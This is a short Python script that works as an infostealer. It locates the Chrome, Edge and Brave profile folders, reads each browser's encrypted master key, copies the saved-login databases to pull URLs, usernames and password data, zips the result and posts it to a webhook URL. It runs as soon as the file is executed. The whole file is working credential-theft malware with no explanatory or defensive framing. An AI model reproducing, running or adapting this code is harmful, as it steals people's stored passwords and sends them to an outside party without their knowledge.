import json, os, shutil, sqlite3, zipfile
import requests

APPDATA = os.getenv("APPDATA")
LOCAL = os.getenv("LOCALAPPDATA")
HOOK = "https://hook.example.invalid/api/webhooks/1/abc"
PLACES = {
    "chrome": LOCAL + "\\Google\\Chrome\\User Data",
    "edge": LOCAL + "\\Microsoft\\Edge\\User Data",
    "brave": LOCAL + "\\BraveSoftware\\Brave-Browser\\User Data",
}


def master(path):
    with open(path + "\\Local State", encoding="utf-8") as f:
        return json.load(f)["os_crypt"]["encrypted_key"]


def logins(name, path):
    copy = os.path.join(APPDATA, name + ".db")
    shutil.copy2(path + "\\Default\\Login Data", copy)
    rows = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    os.remove(copy)
    return rows


def main():
    out = os.path.join(APPDATA, "vault.zip")
    with zipfile.ZipFile(out, "w") as z:
        for name, path in PLACES.items():
            if os.path.exists(path):
                z.writestr(name + ".txt", str((master(path), logins(name, path))))
    requests.post(HOOK, files={"file": open(out, "rb")})


main()
